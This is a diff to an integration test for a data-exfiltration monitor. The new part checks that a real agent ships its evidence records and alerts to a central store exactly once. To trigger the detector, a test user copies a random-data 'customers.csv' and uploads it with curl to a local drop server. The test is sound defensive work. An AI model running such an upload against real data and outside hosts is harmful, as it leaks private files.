@@ -48,6 +48,84 @@ check "bad config errors name FILE:LINE:COL and the key" \
 cf_central_start a
 check "schema applied and recorded" "$(cf_sql 'SELECT max(version) FROM schema_version')" 1
 
+# (1) The real agent on this machine ships through the same stream: its records reach the
+# central store exactly once and the --db views equal its local store's. Needs the
+# agent's fleet shipper (user/output/fleet.c, issue 12).
+part_real_agent() {
+	local A=$T/agent SRC=$T/src apid want
+	echo "-- the real agent ships to the centre"
+	ensure_user alice 1101
+	mkdir -p "$A" "$SRC"
+	chmod a+rx "$T" "$SRC"
+	head -c 3000000 /dev/urandom | base64 -w 100 >"$SRC/customers.csv"
+	chmod -R a+rX "$SRC"
+	cat >"$A/cfg.yaml" <<YAML
+sources:
+  paths: ["$SRC"]
+  services: []
+egress:
+  allow: ["127.0.0.2/32"]
+detect:
+  bulk_read: 2MiB
+  exfil: 1MiB
+output:
+  alerts: $A/alerts.jsonl
+  evidence: $A/evidence
+  syslog: off
+evidence:
+  seal_interval: 1s
+agent:
+  state_dir: $A/state
+  poll_interval: 200ms
+fleet:
+  servers: [$CF_NATS_URL]
+  host_id: agent1
+  heartbeat: 2s
+YAML
+	python3 "$LIB/dropsite.py" --addr 127.0.0.1 --port 14270 --count "$T/drop.count" >"$T/drop.out" 2>&1 &
+	itest_on_exit "kill $!"
+	wait_until 30 grep -q ready "$T/drop.out" || die "dropsite"
+	"$BUILD/exfilmond" -c "$A/cfg.yaml" --status "$A/status.json" --stderr --log-level info \
+		2>>"$A/daemon.log" &
+	apid=$!
+	itest_on_exit "kill -9 $apid"
+	wait_until 60 test -s "$A/status.json" || { tail "$A/daemon.log"; die "agent did not start"; }
+	python3 "$LIB/in_session.py" --uid 1101 --info "$T/alice.info" -- bash -c \
+		"cd ~ && cat $SRC/customers.csv > c.csv &&
+		 curl -sS -T c.csv http://127.0.0.1:14270/upload -o /dev/null && rm -f c.csv" ||
+		die "alice workload"
+	wait_until 20 grep -q '"exfiltration"' "$A/alerts.jsonl" || die "no exfiltration alert"
+	kill -TERM "$apid"
+	wait "$apid"
+	check "agent stopped cleanly" $? 0
+	want=$("$SIM" count "$A/evidence" | cut -d' ' -f2)
+	wait_records agent1 "$want" 60
+	check "every record of the real agent in the central store ($want)" "$(records_of agent1)" "$want"
+	check "central chain of agent1 = its store's head" \
+		"$(cf_sql "SELECT head_block || ' ' || head_hash FROM chain_state WHERE host_id = 'agent1'")" \
+		"$("$SIM" count "$A/evidence" | cut -d' ' -f3,4)"
+	for view in "sessions" "sessions --json" "alerts"; do
+		$CTL $view --dir "$A/evidence" >"$T/local" 2>&1
+		$CTL $view --db "$CF_CONNINFO" --host agent1 2>&1 |
+			grep -Ev ' (ring|fleet_user|agent_silent|evidence_tampered|evidence_gap|config_drift) ' >"$T/central"
+		cmp -s "$T/local" "$T/central"
+		check "agent1: exfilctl $view --db = the store's" $? 0
+	done
+	$CTL timeline --user alice --dir "$A/evidence" >"$T/local" 2>&1
+	$CTL timeline --user alice --db "$CF_CONNINFO" --host agent1 >"$T/central" 2>&1
+	cmp -s "$T/local" "$T/central"
+	check "agent1: exfilctl timeline --user alice --db = the store's" $? 0
+	check "the agent's exfiltration alert stored once" \
+		"$(cf_sql "SELECT count(*) FROM alerts WHERE host_id = 'agent1' AND rule = 'exfiltration'")" 1
+	check "its last heartbeat said clean shutdown" \
+		"$(cf_sql "SELECT clean_shutdown FROM hosts WHERE host_id = 'agent1'")" t
+}
+if [ -e "$ROOT/user/output/fleet.c" ]; then
+	part_real_agent
+else
+	echo "-- the real agent: NOT RUN, this tree has no fleet shipper (user/output/fleet.c)"
+fi
+
 echo "-- ring: four people, four hosts, one destination network"
 # Each under every per-person threshold: 10 MB collected (bulk 50MiB), 4 MB sent.
 host r1 ann 1201 11 10000000 4000000 198.51.100.10:443
@@ -96,7 +174,7 @@ check "agent_silent for the stopped agent" "$(alerts agent_silent 'agent_silent:
 check "agent_silent raised between 3 and 5 s after the last heartbeat" \
 	"$(cf_sql "SELECT extract(epoch FROM a.ts - h.hb_received) BETWEEN 3 AND 5 FROM alerts a JOIN hosts h USING (host_id) WHERE a.rule = 'agent_silent' AND h.host_id = 's1'")" t
 sleep 2
-check "no agent_silent after a clean stop" "$(alerts agent_silent 'agent_silent:s2:%')" 0
+check "no agent_silent after a clean stop" "$(alerts agent_silent 'agent_silent:s2:%' ):$(alerts agent_silent 'agent_silent:agent1:%')" "0:0"
 
 echo "-- evidence_tampered and evidence_gap"
 "$SIM" write "$T/st/t1" --host-name t1 --user lee --uid 1501 --session 41 --source-bytes 1000000 --records 200 >/dev/null
